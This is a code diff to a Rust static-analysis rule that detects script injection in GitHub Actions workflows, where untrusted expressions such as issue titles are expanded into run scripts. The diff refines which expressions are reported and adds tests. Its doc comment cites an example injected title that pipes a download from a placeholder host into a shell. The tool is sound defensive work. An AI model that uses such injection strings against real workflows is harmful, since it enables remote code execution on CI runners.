@@ -5,9 +5,11 @@
 //! issue title such as `"; curl evil | sh; "` becomes code. The finding points at the
 //! expression itself. Only contexts an outsider can set are reported: titles, bodies, branch
 //! names, label names, commit messages and author fields of events, and the step outputs, job
-//! outputs, matrix values and reusable-workflow inputs that carry them ([`super::carried`]).
-//! Other workflow inputs, `github.ref_name` and `github.base_ref` need write access to set
-//! and are not reported.
+//! outputs, matrix values and reusable-workflow inputs and outputs that carry them
+//! ([`super::carried`]), and only where they can become the expression's value
+//! ([`super::expression`]): `${{ github.event.label.name == 'bug' && 'yes' || 'no' }}` can only
+//! expand to a fixed word. Other workflow inputs, `github.ref_name` and `github.base_ref` need
+//! write access to set and are not reported.
 
 use std::rc::Rc;
 use std::sync::LazyLock;
@@ -15,6 +17,7 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 use super::carried::{Origin, Taint, carried_in, script_of};
+use super::expression::reaching;
 use super::{Finding, Rule, Severity, Sources, YamlFile, jobs, steps};
 use crate::evidence::Confidence;
 use crate::parse::yaml::Node;
@@ -49,29 +52,18 @@ static UNTRUSTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
     .ok()
 });
 
-/// Whether an expression can expand to text: calls that only yield a boolean
-/// (`contains(...)`) and single comparisons (`a == b`) expand to `true` or `false`.
-pub(crate) fn yields_text(expression: &str) -> bool {
-    let inner = expression
-        .trim_start_matches("${{")
-        .trim_end_matches("}}")
-        .trim()
-        .to_ascii_lowercase();
-    let boolean_call = ["contains(", "startswith(", "endswith("]
-        .iter()
-        .any(|f| inner.starts_with(f) && inner.ends_with(')'));
-    let comparison = (inner.contains("==") || inner.contains("!="))
-        && !inner.contains("||")
-        && !inner.contains("&&");
-    !(boolean_call || comparison)
+/// The untrusted context an expression can expand to, if any: one named in a part of it
+/// that can reach its value ([`reaching`]).
+pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
+    let pattern = UNTRUSTED.as_ref()?;
+    reaching(expression)
+        .into_iter()
+        .find_map(|part| pattern.find(part).map(|m| m.as_str()))
 }
 
-/// The untrusted context named in the expression text, if any.
-pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
-    if !yields_text(expression) {
-        return None;
-    }
-    UNTRUSTED.as_ref()?.find(expression).map(|m| m.as_str())
+/// Every `${{ }}` in a text.
+pub(crate) fn expressions_in(text: &str) -> impl Iterator<Item = &str> {
+    (EXPRESSION.as_ref().into_iter()).flat_map(move |p| p.find_iter(text).map(|m| m.as_str()))
 }
 
 /// Every `${{ }}` in the source lines of a node, as (line, column, expression text); lines
@@ -102,17 +94,35 @@ pub(crate) fn expressions<'f>(
 /// step or key: it ends after its own lines.
 fn last_line(node: &Node, file: &YamlFile) -> usize {
     let span = node.span;
-    let header = source::line_of(file.text, span.line.saturating_sub(1));
-    let header = header.split(" #").next().unwrap_or(header).trim_end();
-    let indicator = header.trim_end_matches(|c: char| c == '-' || c == '+' || c.is_ascii_digit());
-    let block = span.line > 1 && (indicator.ends_with('|') || indicator.ends_with('>'));
     match node.as_str() {
-        Some(value) if block => {
+        Some(value) if block_style(node, file).is_some() => {
             let own = span.line + value.lines().count().max(1) - 1;
             span.end_line.min(own)
         }
         _ => span.end_line,
     }
+}
+
+/// The indicator of a block scalar, `|` (literal: its lines are the file's) or `>` (folded),
+/// read from the end of the line before its text; `None` for any other node.
+pub(crate) fn block_style(node: &Node, file: &YamlFile) -> Option<char> {
+    let line = node.span.line;
+    if line <= 1 || node.as_str().is_none() {
+        return None;
+    }
+    // A block's text starts after its indentation; a scalar with anything before it on its
+    // line (`run: make`, a flow mapping) is not one, and its line before need not be read.
+    let own = source::line_of(file.text, line).chars();
+    if !own
+        .take(node.span.column.saturating_sub(1))
+        .all(char::is_whitespace)
+    {
+        return None;
+    }
+    let header = source::line_of(file.text, line - 1);
+    let header = header.split(" #").next().unwrap_or(header).trim_end();
+    let indicator = header.trim_end_matches(|c: char| c == '-' || c == '+' || c.is_ascii_digit());
+    indicator.chars().last().filter(|c| *c == '|' || *c == '>')
 }
 
 /// Reports every untrusted `${{ }}` in the source lines of a script node.
@@ -194,5 +204,13 @@ mod tests {
         );
         assert!(untrusted_context("${{ github.event.issue.title == 'x' }}").is_none());
         assert!(untrusted_context("${{ github.event.issue.title || 'x' }}").is_some());
+        assert!(
+            untrusted_context("${{ github.event.label.name == 'x' && 'yes' || 'no' }}").is_none()
+        );
+        assert_eq!(
+            untrusted_context("${{ github.event_name == 'issues' && github.event.issue.body }}"),
+            Some("github.event.issue.body")
+        );
+        assert!(untrusted_context("${{ format('github.head_ref {0}', github.sha) }}").is_none());
     }
 }
